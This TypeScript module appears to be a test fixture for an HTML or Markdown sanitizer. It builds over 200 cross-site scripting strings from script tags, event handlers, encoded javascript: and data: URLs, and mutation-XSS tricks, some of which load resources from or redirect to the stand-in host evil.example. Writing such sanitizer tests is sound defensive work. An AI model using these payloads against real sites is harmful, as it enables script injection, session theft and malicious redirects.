const CODE = 'window.hit=1'

/** Markup with active content. */
const MARKUP = [
  `<script>${CODE}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${CODE}>`,
  `<svg/onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="<script>${CODE}</script>"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<a href="javascript:${CODE}">x</a>`,
  `<a href="data:text/html,<script>${CODE}</script>">x</a>`,
  `<form action="javascript:${CODE}"><button>x</button></form>`,
  `<button formaction="javascript:${CODE}">x</button>`,
  `<input autofocus onfocus=${CODE}>`,
  `<details open ontoggle=${CODE}>`,
  `<video><source onerror=${CODE}></video>`,
  `<body onload=${CODE}>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example>`,
  `<div style="background:url(javascript:${CODE})">x</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<!--><img src=x onerror=${CODE}>-->`,
  `<![CDATA[><img src=x onerror=${CODE}>]]>`,
  `<xmp><img src=x onerror=${CODE}></xmp>`,
  `<template><script>${CODE}</script></template>`,
  `<img src=\`x\` onerror\n=\n${CODE}>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `&lt;img src=x onerror=${CODE}&gt;`,
  `"><img src=x onerror=${CODE}>`,
  `'"--></style></script><img src=x onerror=${CODE}>`,
]

const ADDRESSES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  `&#106;avascript:${CODE}`,
  `&#x6a;avascript&colon;${CODE}`,
  `%6aavascript:${CODE}`,
  ` javascript:${CODE}`,
  `javascript://x%0a${CODE}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${CODE}>`,
  `vbscript:${CODE}`,
  `blob:${CODE}`,
  `//evil.example`,
  `/\\evil.example`,
  `\\\\evil.example`,
  `x" onmouseover="${CODE}`,
  `x' onmouseover='${CODE}`,
  `file:///etc/passwd`,
]

const AROUND_MARKUP: ((words: string) => string)[] = [
  (words) => words,
  (words) => `# ${words}`,
  (words) => `> - **${words}**`,
  (words) => `| a | b |\n|---|---|\n| ${words} | x |`,
  (words) => `[${words}](https://fine.example)`,
]

const AROUND_ADDRESSES: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "${address}")`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][y]\n\n[y]: ${address}`,
]

/** Markup alone, for fields without Markdown. */
export function hostileMarkup(): string[] {
  return [...MARKUP]
}

/** More than 200 texts that try to become active content. */
export function hostileText(): string[] {
  return [
    ...AROUND_MARKUP.flatMap((around) => MARKUP.map(around)),
    ...AROUND_ADDRESSES.flatMap((around) => ADDRESSES.map(around)),
  ]
}
